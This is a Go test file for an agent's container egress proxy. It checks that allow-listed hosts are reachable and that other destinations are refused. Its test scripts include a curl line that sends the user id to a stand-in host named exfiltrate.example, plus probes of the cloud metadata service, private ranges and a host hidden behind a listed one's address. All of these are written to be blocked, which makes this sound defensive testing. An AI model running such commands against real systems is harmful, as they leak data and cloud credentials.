package agent

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/pem"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"testing"

	"sam/agent/wire"
	"sam/task"
)

// outside is the internet as a node's proxy sees it: names and public addresses that lead to servers of the test.
type outside struct {
	https, http *httptest.Server
	mu          sync.Mutex
	dialled     []string
}

func newOutside(t *testing.T, upstream http.Handler) *outside {
	t.Helper()
	packages := http.NewServeMux()
	packages.HandleFunc("/hello", func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "hello from "+r.Host) })
	packages.Handle("/upstream/", upstream)
	module := "/go/example.com/quay/@v/"
	packages.HandleFunc(module+"list", func(w http.ResponseWriter, _ *http.Request) { fmt.Fprintln(w, "v1.0.0") })
	packages.HandleFunc(module+"v1.0.0.info", func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, `{"Version":"v1.0.0"}`) })
	packages.HandleFunc(module+"v1.0.0.mod", func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, "module example.com/quay\n") })
	packages.HandleFunc(module+"v1.0.0.zip", func(w http.ResponseWriter, _ *http.Request) {
		var b bytes.Buffer
		z := zip.NewWriter(&b)
		for name, content := range map[string]string{"go.mod": "module example.com/quay\n", "quay.go": "package quay\n\nconst Depth = 7\n"} {
			f, err := z.Create("example.com/quay@v1.0.0/" + name)
			if err == nil {
				_, err = io.WriteString(f, content)
			}
			if err != nil {
				t.Error(err)
			}
		}
		if err := z.Close(); err != nil {
			t.Error(err)
		}
		_, _ = w.Write(b.Bytes())
	})
	o := &outside{https: httptest.NewTLSServer(packages), http: httptest.NewServer(packages)}
	t.Cleanup(o.https.Close)
	t.Cleanup(o.http.Close)
	return o
}

// LookupNetIP implements egress.Resolver.
func (o *outside) LookupNetIP(_ context.Context, _, name string) ([]netip.Addr, error) {
	addr, ok := map[string]string{"example.com.": "93.184.216.34", "deb.example.com.": "93.184.216.35", "rebound.example.com.": "127.0.0.1"}[name]
	if !ok {
		return nil, &net.DNSError{Err: "no such host", Name: name, IsNotFound: true}
	}
	return []netip.Addr{netip.MustParseAddr(addr)}, nil
}

func (o *outside) dial(ctx context.Context, network, address string) (net.Conn, error) {
	o.mu.Lock()
	o.dialled = append(o.dialled, address)
	o.mu.Unlock()
	to := map[string]string{"93.184.216.34:443": o.https.Listener.Addr().String(), "93.184.216.35:80": o.http.Listener.Addr().String()}[address]
	return (&net.Dialer{}).DialContext(ctx, network, to)
}

// trusted is the HTTPS server's certificate, for clients.
func (o *outside) trusted() string {
	return string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: o.https.Certificate().Raw}))
}

// shell is a driver that runs scripts in the workspace and says what each printed, and how it ended.
type shell struct {
	stdin   string
	scripts []string
}

func (shell) Name() string { return "demo" }
func (shell) Real() bool   { return true }

func (d shell) Run(ctx context.Context, w Workspace, _ wire.Start, emit func(task.Event) error, _ *answers) (task.End, error) {
	for _, script := range d.scripts {
		var out bytes.Buffer
		exit, err := w.Exec(ctx, Command{Args: []string{"bash", "-c", script}, Stdin: strings.NewReader(d.stdin), Stdout: &out, Stderr: &out})
		if err != nil {
			return task.End{}, err
		}
		if err := emit(said(fmt.Sprintf("%d %s", exit.Code, strings.TrimSpace(out.String())))); err != nil {
			return task.End{}, err
		}
	}
	return task.End{Outcome: task.Done, Headline: "Ran"}, nil
}

// ran runs scripts in a container with a network and returns what was said of each, and the hosts that were refused.
func (o *outside) ran(t *testing.T, g *testGateway, id string, network *wire.Network, scripts ...string) (words, refused []string) {
	t.Helper()
	e := docker(t)
	options := e.options(t, g)
	n := startNode(g, options, func(n *Node) {
		n.drivers = newDrivers(shell{o.trusted(), scripts})
		n.workspaces.out.Resolver, n.workspaces.out.Dial = o, o.dial
	})
	t.Cleanup(n.stop)
	s := start(g, id, 1, "anything")
	s.Network = network
	g.command(frame(s))
	events := g.finished(s.Ref)
	if end := last(events); end.Outcome != task.Done {
		t.Fatalf("it ended with %+v", end)
	}
	for _, e := range events {
		switch e.Kind {
		case task.Said:
			words = append(words, e.Text)
		case task.Noticed:
			refused = append(refused, e.Notice.Subject)
			if !strings.Contains(e.Text, "network.") && !strings.Contains(e.Text, "never reached") { // which nothing can be done about
				t.Errorf("what to do about %s is not said: %s", e.Notice.Subject, e.Text)
			}
		}
	}
	if len(words) != len(scripts) {
		t.Fatalf("said is %q", words)
	}
	n.stop()
	noSecretOnDisk(t, n.options.Dir)
	return words, refused
}

func TestRealClientsInAContainerReachWhatIsListedThroughTheProxyAndNothingElse(t *testing.T) {
	t.Parallel()
	g := newTestGateway(t)
	newUpstream(t, g)
	o := newOutside(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { g.git(w, r, "/upstream") }))
	nodesPort := g.server.Listener.Addr().String()
	scripts := []struct{ name, script, want string }{
		{"the certificate", `cat >/tmp/ca.pem`, "0 "},
		{"curl, https", `curl -sS --cacert /tmp/ca.pem https://example.com/hello`, "0 hello from example.com"},
		{"curl, http, as apt", `curl -sS http://deb.example.com/hello`, "0 hello from deb.example.com"},
		{"git over https", `GIT_SSL_CAINFO=/tmp/ca.pem git clone --quiet https://example.com/upstream/harbour/quayside.git /tmp/clone && ls /tmp/clone/go.mod`, "0 /tmp/clone/go.mod"},
		{"git to its broker", `git fetch origin main && git rev-parse FETCH_HEAD >/dev/null && echo fetched`, "fetched"},
		{"the broker, though NO_PROXY is gone", `env -u NO_PROXY -u no_proxy git fetch --quiet origin main && echo fetched`, "0 fetched"},
		{"go, from a module proxy", `mkdir /tmp/m && cd /tmp/m && export SSL_CERT_FILE=/tmp/ca.pem GONOSUMDB=example.com GOPROXY=https://example.com/go && go mod init m 2>/dev/null && go get example.com/quay@v1.0.0`, "0 go: downloading example.com/quay v1.0.0\ngo: added example.com/quay v1.0.0"},
		{"an unlisted host", `curl -sS https://exfiltrate.example/$(id -u)`, "56 curl: (56) CONNECT tunnel failed, response 403"},
		{"an unlisted host, again", `curl -sS https://exfiltrate.example/again`, "56 "},
		{"an unlisted host behind a listed one's address", `curl -sS --cacert /tmp/ca.pem --connect-to hidden.example.com:443:example.com:443 https://hidden.example.com/hello`, "35 "},
		{"a listed name that leads to the node", `curl -sS https://rebound.example.com/`, "response 403"},
		{"the node's port, through the proxy", `curl -sS --noproxy '' http://` + nodesPort + `/`, "only hosts with a name"},
		{"the metadata service, through the proxy", `curl -sS http://169.254.169.254/latest/meta-data/`, "never reached from a workspace"},
		{"the metadata service, directly", `curl -sS --noproxy '*' --max-time 5 http://169.254.169.254/`, "7 "},
		{"a private range", `curl -sS http://10.0.0.1/`, "only hosts with a name"},
		{"the node's port, directly", `curl -sS --noproxy '*' --max-time 5 http://` + nodesPort + `/`, "7 "},
		{"the proxy without the token, as Java's programs ask", `curl -sS -o /dev/null -w '%{http_code}' -x http://127.0.0.1:8470 http://deb.example.com/hello`, "0 200"},
		{"Maven's and Gradle's properties", `echo "$MAVEN_OPTS" | grep -o 'https.proxyPort=8470' && test "$MAVEN_OPTS" = "$GRADLE_OPTS"`, "0 https.proxyPort=8470"},
	}
	var lines []string
	for _, one := range scripts {
		lines = append(lines, one.script)
	}
	words, refused := o.ran(t, g, "tegress", &wire.Network{Policy: "registries", Hosts: []string{"example.com", "*.example.com"}}, lines...)
	for i, one := range scripts {
		if !strings.Contains(words[i], one.want) {
			t.Errorf("%s: %q, want %q", one.name, words[i], one.want)
		}
	}
	want := []string{"exfiltrate.example:443", "hidden.example.com:443", "rebound.example.com:443", nodesPort, "169.254.169.254:80", "10.0.0.1:80"}
	if !slices.Equal(refused, want) {
		t.Errorf("told are %q, want %q", refused, want)
	}
	o.mu.Lock()
	defer o.mu.Unlock()
	for _, to := range o.dialled {
		if to != "93.184.216.34:443" && to != "93.184.216.35:80" {
			t.Errorf("%s was dialled", to)
		}
	}
}

func TestUnderBrokersAContainerIsToldOfNoProxyAndReachesNothingThroughOne(t *testing.T) {
	t.Parallel()
	g := newTestGateway(t)
	newUpstream(t, g)
	o := newOutside(t, http.NotFoundHandler())
	words, refused := o.ran(t, g, "tbrokers", &wire.Network{Policy: "brokers", Hosts: []string{"example.com"}},
		`env | grep -i _proxy=`, `curl -sS --max-time 5 https://example.com/`, `curl -sS -x http://sam:`+taskToken+`@127.0.0.1:8470 https://example.com/`, `git fetch --quiet origin main && echo fetched`)
	for i, want := range []string{"1 ", "6 ", "56 ", "0 fetched"} {
		if !strings.HasPrefix(words[i], want) {
			t.Errorf("%d: %q, want %q", i, words[i], want)
		}
	}
	if !slices.Equal(refused, []string{"example.com:443"}) || len(o.dialled) > 0 {
		t.Errorf("told are %q, dialled %q", refused, o.dialled)
	}
}
